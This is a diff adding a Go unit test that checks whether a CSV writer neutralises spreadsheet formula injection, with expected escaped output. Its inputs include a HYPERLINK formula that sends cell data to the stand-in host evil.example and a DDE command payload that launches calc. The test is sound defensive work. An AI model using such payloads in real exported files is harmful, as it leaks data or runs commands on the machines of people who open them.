@@ -36,6 +36,22 @@ func TestCSV(t *testing.T) {
 	}
 }
 
+// What a spreadsheet would run is text to it, and numbers stay numbers.
+func TestCSVRunsNothing(t *testing.T) {
+	table := &query.Table{Columns: []query.Column{{"s", "String"}}}
+	for _, s := range []string{`=HYPERLINK("https://evil.example/?"&A1)`, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "-7", "+1.5e3", "-", "=", "a=b", "'=x"} {
+		table.Rows = append(table.Rows, []any{s})
+	}
+	var b bytes.Buffer
+	if err := table.WriteCSV(&b); err != nil {
+		t.Fatal(err)
+	}
+	want := "s\r\n\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1)\"\r\n'+cmd|' /C calc'!A0\r\n'-2+3\r\n'@SUM(1)\r\n'\t=1\r\n-7\r\n+1.5e3\r\n-\r\n=\r\na=b\r\n'=x\r\n"
+	if diff := cmp.Diff(want, b.String()); diff != "" {
+		t.Error(diff)
+	}
+}
+
 // What is written is read back by the library, and by pyarrow where it is installed.
 func TestParquet(t *testing.T) {
 	var b bytes.Buffer
